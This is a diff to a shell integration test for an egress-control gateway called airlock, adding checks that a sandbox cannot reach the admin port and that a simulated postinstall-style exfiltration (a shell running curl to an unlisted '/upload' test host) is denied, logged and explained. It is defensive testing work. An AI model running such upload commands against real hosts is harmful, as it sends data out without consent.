@@ -38,6 +38,10 @@ expect_not "  another user cannot use it" \
   ip netns exec "$GW" setpriv --reuid=65534 --regid=65534 --clear-groups \
   curl -sS --max-time 5 --unix-socket "$W/control.sock" http://airlock/v1/info
 chmod 700 "$W"
+expect_not "the sandbox cannot reach the admin port through the gateway" \
+  world_sbx curl -fsS --max-time 3 "http://$GW_SBX_IP:19901/healthz"
+expect "  (its connection went to the proxy, which refused an address it never resolved)" \
+  line event=connect dst=$GW_SBX_IP:19901 verdict=deny reason=no_name
 expect "/healthz answers ok" body_is ok ip netns exec "$GW" curl -sS --max-time 5 http://127.0.0.1:19901/healthz
 
 # --- a runtime session with labels, an extra allowance and a tool call ----------------------
@@ -50,7 +54,7 @@ out=$(api PUT /v1/sessions/rt-1/context '{"tool_call":"call-42"}')
 expect "its tool call is set (200)" status_is "$out" 200
 
 # Exactly known traffic: 4 DNS queries (dig, one try each) and 3 connections (curl --resolve,
-# so curl itself asks no DNS).
+# so curl itself asks no DNS), then the upload below asks A and AAAA.
 for name in listed extra unlisted later; do
   world_sbx dig +time=3 +tries=1 +short @"$GW_SBX_IP" "$name.airlock.test" >/dev/null || true
 done
@@ -61,10 +65,23 @@ expect "the session's extra allowance works" body_is "origin says hello to extra
   sbx_curl $(r extra) https://extra.airlock.test/
 expect_not "an unlisted name is refused" sbx_curl $(r unlisted) https://unlisted.airlock.test/
 
-expect "exactly 4 dns lines for the session" line --count 4 event=dns session=rt-1
+# A postinstall-style exfiltration: a shell runs curl to a name the policy does not list.
+world_sbx sh -c "curl -sS --max-time 5 --cacert $W/ca.crt https://unlisted.airlock.test/upload" >/dev/null 2>&1 || true
+
+expect "exactly 6 dns lines for the session (the upload asked A and AAAA)" line --count 6 event=dns session=rt-1
 expect "exactly 3 connect lines for the session" line --count 3 event=connect session=rt-1
 expect "every one carries the labels and the tool call" \
-  line --count 7 session=rt-1 tool_call=call-42 'labels~="task": "t-9"'
+  line --count 9 session=rt-1 tool_call=call-42 'labels~="task": "t-9"'
+expect "airlock explain tells the session's story, the denied upload with its process chain" python3 - \
+  "$("$AIRLOCK" explain --log "$W/decisions.jsonl" rt-1 2>&1)" <<'PY'
+import sys
+story = sys.argv[1]
+print(story)
+want = ["unlisted.airlock.test", "DENY", "host_not_allowed", "sh -> curl", "https://unlisted.airlock.test/upload",
+        "extra.airlock.test", "session rt-1 allow:1"]
+missing = [w for w in want if w not in story]
+sys.exit(f"missing from the story: {missing}" if missing else 0)
+PY
 expect "  the extra allowance names where it came from" \
   line event=connect name=extra.airlock.test verdict=allow 'rule=session rt-1 allow:1'
 expect "a DNS line names the process that asked (dig)" line event=dns session=rt-1 'process~="comm": "dig"'
@@ -106,7 +123,7 @@ def total(name, **want):
 denied = total("airlock_decisions_total", event="connect", verdict="deny", reason="host_not_allowed")
 dns = total("airlock_decisions_total", event="dns")
 print(f"connect denies {denied}, dns decisions {dns}, upstream answers {total('airlock_dns_upstream_seconds_count')}")
-ok = denied == 1 and dns == 4 and total("airlock_dns_upstream_seconds_count", outcome="answered") >= 2 \
+ok = denied == 1 and dns == 6 and total("airlock_dns_upstream_seconds_count", outcome="answered") >= 2 \
      and "airlock_log_dropped_total" in samples and "airlock_active_connections" in samples
 sys.exit(0 if ok else 1)
 PY
@@ -116,10 +133,10 @@ out=$(api DELETE /v1/sessions/rt-1)
 expect "removing the session answers its totals" python3 -c '
 import json, sys
 t = json.loads(sys.argv[1].splitlines()[0])
-sys.exit(0 if (t["dns_queries"], t["connections_allowed"], t["connections_denied"]) == (4, 2, 1) and t["bytes_down"] > 0 else 1)
+sys.exit(0 if (t["dns_queries"], t["connections_allowed"], t["connections_denied"]) == (6, 2, 1) and t["bytes_down"] > 0 else 1)
 ' "$out"
 expect "  and the close event carries the same totals" line event=session session=rt-1 action=close \
-  dns_queries=4 connections_allowed=2 connections_denied=1 tool_call=call-42
+  dns_queries=6 connections_allowed=2 connections_denied=1 tool_call=call-42
 expect "after removal the configured session answers for the sandbox again" \
   line --wait 0 event=session session=cfg-sandbox action=open
 
